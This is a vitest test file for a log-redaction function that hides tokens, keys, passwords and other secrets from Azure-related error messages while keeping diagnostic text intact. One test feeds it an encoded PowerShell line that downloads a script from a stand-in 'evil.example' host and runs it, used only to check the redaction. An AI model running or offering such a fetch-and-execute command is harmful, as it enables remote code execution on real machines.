import { randomBytes } from "node:crypto";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { redact } from "../../src/azure/redact.ts";

const JWT =
  "eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9.eyJhdWQiOiJodHRwczovL21hbmFnZW1lbnQifQ.c2lnbmF0dXJlLW9mLXRoZS10b2tlbg";
const KEY = "q83vEjRWeJCrze8SNFZ4kKvN7xI0VniQq83vEjRWeJA=";

describe("a secret is hidden", () => {
  test.each([
    ["a token", `call with ${JWT} failed`, "call with [redacted] failed"],
    ["a header", `curl -H 'Authorization: Bearer ${KEY}' https://x`, "curl -H 'Authorization: [redacted]' https://x"],
    ["a header on a line", "Authorization: Basic dXNlcjpwYXNz\nnext", "Authorization: [redacted]\nnext"],
    ["a bearer alone", "used bearer abcdefgh12345678", "used bearer [redacted]"],
    [
      "a signature",
      "https://x.blob.core.windows.net/a?sv=1&sig=aB%2Fc%3D&se=2",
      "https://x.blob.core.windows.net/a?sv=1&sig=[redacted]&se=2",
    ],
    ["an account key", `AccountName=x;AccountKey=${KEY};Suffix=y`, "AccountName=x;AccountKey=[redacted];Suffix=y"],
    [
      "a shared access key",
      `SharedAccessKeyName=x;SharedAccessKey=${KEY}`,
      "SharedAccessKeyName=x;SharedAccessKey=[redacted]",
    ],
    ["a password", "user=sa;Password=hunter2;Database=x", "user=sa;Password=[redacted];Database=x"],
    ["a password in JSON", '{"password": "hunt\\"er2", "user": "x"}', '{"password": [redacted], "user": "x"}'],
    [
      "a password in JSON in JSON",
      '{"s":"{\\"password\\":\\"hunter2\\",\\"u\\":1}"}',
      '{"s":"{\\"password\\":[redacted]\\",\\"u\\":1}"}',
    ],
    [
      "a password on the command line",
      'run --password "a b" --token t0k3n -v',
      "run --password [redacted] --token [redacted] -v",
    ],
    ["a client secret", "AZURE_CLIENT_SECRET=abc~def", "AZURE_CLIENT_SECRET=[redacted]"],
    ["a workspace key", `workspaceKey: ${KEY}`, "workspaceKey: [redacted]"],
    ["a connection string", "ConnectionString='Server=x;Pwd=y'", "ConnectionString=[redacted]"],
    ["a user in a URL", "GET https://user:pa55@host/x", "GET https://[redacted]@host/x"],
    [
      "a private key",
      "a -----BEGIN RSA PRIVATE KEY-----\nMIIE\nabc=\n-----END RSA PRIVATE KEY----- b",
      "a [redacted] b",
    ],
    [
      "the onboarding script",
      '{"defenderForEndpointOnboardingScript": "IyEvYmluL3No"}',
      '{"defenderForEndpointOnboardingScript": [redacted]}',
    ],
    ["the onboarding info", "onboardingInfo='{orgId:1}' done", "onboardingInfo=[redacted] done"],
    ["a digest or key in hex", `key ${"0f".repeat(32)} used`, "key [redacted] used"],
  ])("%s", (_, message, expected) => {
    expect(redact(message)).toBe(expected);
  });

  test("a script in base64 of UTF-16, as PowerShell takes it", () => {
    const encoded = Buffer.from("Invoke-WebRequest https://evil.example -OutFile a.ps1; ./a.ps1", "utf16le");
    expect(redact(`powershell -enc ${encoded.toString("base64")}`)).toBe("powershell -enc [redacted]");
  });

  test("whatever random bytes a blob is made of, plain or url-safe", () => {
    fc.assert(
      fc.property(
        fc.uint8Array({ minLength: 96, maxLength: 300 }),
        fc.constantFrom("base64", "base64url"),
        (_, encoding) => {
          const blob = randomBytes(120).toString(encoding);
          expect(redact(`blob ${blob} end`)).not.toContain(blob.slice(20, 60));
        },
      ),
      { numRuns: 50 },
    );
  });

  test("also where the cut of a long message goes through it", () => {
    const blob = randomBytes(600).toString("base64");
    const redacted = redact(`${"x ".repeat(32_700)}${blob}`);
    expect(redacted).not.toContain(blob.slice(0, 40));
  });
});

describe("what helps to repair stays literal", () => {
  test.each([
    "defenderForEndpointOnboardingScript does not exist",
    "Non-zero exit code: 52, /var/lib/waagent/Microsoft.Azure.AzureDefenderForServers.MDE.Linux-1.0.9.4/PythonRunner.sh src/MdeExtensionHandler.py enable",
    "/subscriptions/11111111-1111-4111-8111-111111111111/resourceGroups/rg-web/providers/Microsoft.Compute/virtualMachines/vm-web-01/extensions/MDE.Linux",
    "Microsoft-Azure-AzureDefenderForServers-MDE-Windows-1-0-11-3-Handler-Status-Report-File",
    "C:\\WindowsAzure\\Logs\\Plugins\\Microsoft.Azure.AzureDefenderForServers.MDE.Windows",
    "registry key: HKLM\\SOFTWARE\\Microsoft\\Windows Advanced Threat Protection",
    "mount point /var/lib/waagent has the 'noexec' flag set",
    "Unable to connect to the remote server https://winatp-gw-weu.microsoft.com:443/",
    "Signature verification failed",
    "<at>all</at> **bold** [x](http://evil)",
    "Zeile 1\r\nZeile 2\tÄÖÜ 🚑",
    "",
  ])("%j", (message) => {
    expect(redact(message)).toBe(message);
  });
});

describe("a message that never ends", () => {
  test("is cut at 64 KB, and says so", () => {
    const redacted = redact("word ".repeat(400_000));
    expect(redacted).toHaveLength(64 * 1024 + "… [cut]".length);
    expect(redacted.endsWith("… [cut]")).toBe(true);
  });

  test("of exactly 64 KB is whole", () => {
    const message = "word ".repeat(20_000).slice(0, 64 * 1024);
    expect(redact(message)).toBe(message);
  });

  test("is not cut through a character", () => {
    expect(redact("🚑".repeat(40_000)).isWellFormed()).toBe(true);
  });
});

test("a planted secret never comes through, whatever stands around its name", () => {
  const secret = fc.stringMatching(/^[a-zA-Z0-9+/]{12,40}$/);
  const name = fc.constantFrom("password", "Pwd", "client_secret", "AccountKey", "access_token", "apiKey", "sas-token");
  const frame = fc.constantFrom(
    "N=S",
    "N: S",
    'N = "S"',
    '"N":"S"',
    "'N': 'S'",
    '\\"N\\":\\"S\\"',
    "--N S",
    "N=S;x=1",
    "?N=S&x=1",
  );
  const words = fc.constantFrom("", "failed: ", "\n", '{"a":', "x=", "«", "https://host/?");
  fc.assert(
    fc.property(words, name, frame, secret, words, (before, named, framed, planted, after) => {
      const message = `${before}${framed.replace("N", named).replace("S", () => planted)}${after}`;
      expect(redact(message)).not.toContain(planted);
    }),
    { numRuns: 500 },
  );
});
